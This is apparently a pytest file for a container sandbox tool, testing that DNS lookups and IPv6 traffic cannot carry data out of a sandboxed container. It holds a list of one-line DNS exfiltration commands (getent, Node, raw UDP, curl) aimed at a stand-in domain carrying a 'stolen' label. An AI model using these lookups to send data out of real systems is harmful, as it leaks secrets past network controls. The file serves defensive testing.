"""Names carry data: to look one up tells it to whoever serves its domain. And IPv6, which could be a second way out."""

from __future__ import annotations

import re
import socket
import threading
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from boxes import Box, finished, make_box

MARK = "stolen"
# Each line looks one name up; LABEL becomes what a tool has stolen.
LOOKUPS = {
    "resolver": "getent hosts LABEL.example",
    "resolver, IPv6": "python3 -c \"import socket; socket.getaddrinfo('LABEL.example', 1, socket.AF_INET6)\"",
    "Node": "node -e \"require('dns').lookup('LABEL.example', () => {})\"",
    "Node's own resolver": "node -e \"require('dns').resolve4('LABEL.example', () => process.exit())\"",
    "asked directly": "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto("
    "b'LABEL', ('192.0.2.53', 53))\"",
    "by the proxy": "curl -s --max-time 5 http://LABEL.example/",
    "by CONNECT": "curl -s --max-time 5 https://LABEL.example/",
}  # fmt: skip


class NameServer(threading.Thread):
    """Keeps every query that it gets, and answers that there is no such name."""

    def __init__(self, address: str) -> None:
        super().__init__(daemon=True)
        self.seen = b""
        self.socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.socket.bind((address, 0))
        self.place = f"{address}:{self.socket.getsockname()[1]}"

    def run(self) -> None:
        while True:
            try:
                query, sender = self.socket.recvfrom(4096)
            except OSError:
                return
            self.seen += query
            # RFC 1035, 4.1.1: the query sent back as a response (QR) with RCODE 3.
            self.socket.sendto(query[:2] + b"\x81\x83" + query[4:], sender)


@pytest.fixture
def name_server(gateway: str) -> Iterator[NameServer]:
    """Gets what containers ask any name server about, where the name begins with MARK: others go on to theirs."""
    server = NameServer(gateway)
    rule = ["PREROUTING", "-p", "udp", "--dport", "53", "-m", "string", "--algo", "bm", "--string", MARK]
    rule += ["-j", "DNAT", "--to-destination", server.place]
    added = finished(["iptables", "-t", "nat", "-I", *rule])
    if added.returncode:
        pytest.skip(f"needs root and iptables: {added.stderr}")
    server.start()
    yield server
    finished(["iptables", "-t", "nat", "-D", *rule])
    server.socket.close()


@pytest.mark.usefixtures("images")
def test_no_name_leaves_the_container(name_server: NameServer, tmp_path: Path) -> None:
    box = make_box(tmp_path)
    for mode in ("allowlist", "open"):
        lines = [
            f"({line.replace('LABEL', f'{MARK}-{mode}{number}')}) & " for number, line in enumerate(LOOKUPS.values())
        ]
        done = box.agentbox("shell", "--network", mode, "--", "bash", "-c", " ".join(lines) + "wait; echo done")
        assert done.stdout.endswith("done\n"), done.stderr
    asked = {
        mode: [name for number, name in enumerate(LOOKUPS) if f"{MARK}-{mode}{number}".encode() in name_server.seen]
        for mode in ("allowlist", "open")
    }
    # The control: with the engine's resolver as it comes, each of them told the name.
    assert asked == {"allowlist": [], "open": list(LOOKUPS)}


class Reached(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"REACHED\n")

    def log_message(self, *_: object) -> None:
        return


class DualStack(ThreadingHTTPServer):
    address_family = socket.AF_INET6


@contextmanager
def network6() -> Iterator[str]:
    """A network as the engine makes it where IPv6 is on."""
    name = "agentbox-test-ipv6"
    finished(["docker", "network", "rm", name])
    made = finished(["docker", "network", "create", "--ipv6", "--subnet", "fd4e:6ab0::/64", name])
    assert made.returncode == 0, made.stderr
    yield name
    finished(["docker", "network", "rm", name])


def own_addresses6() -> list[str]:
    """The host's, but for those of one link."""
    found = finished(["ip", "-6", "-o", "address", "show", "scope", "global"]).stdout
    return re.findall(r"inet6 ([0-9a-f:]+)/", found)


def test_no_way_by_ipv6(images: Callable[[str], str], tmp_path: Path) -> None:
    server = DualStack(("::", 0), Reached)
    threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True).start()
    with network6() as network:
        # The bridge's own address is among them while a container is on it: fd4e:6ab0::1.
        addresses = [*own_addresses6(), "fd4e:6ab0::1"]
        lines = [f"curl -s --max-time 5 --noproxy '*' http://[{one}]:{server.server_port}/" for one in addresses]
        script = "cat /proc/net/if_inet6; " + "; ".join(lines) + "; true"
        inside = shell(make_box(tmp_path), script)
        control = finished(
            ["docker", "run", "--rm", "--network", network, "--entrypoint", "bash", images("base"), "-c", script]
        )
    server.shutdown()
    server.server_close()
    assert "REACHED" not in inside
    assert not re.search(r"^(?!0{31}1 ).*\S", inside, re.MULTILINE), inside  # no address but the loopback's
    assert control.stdout.count("REACHED") == len(addresses), control


def shell(box: Box, script: str) -> str:
    done = box.agentbox("shell", "--", "bash", "-c", script)
    assert done.returncode == 0, done.stderr
    return done.stdout
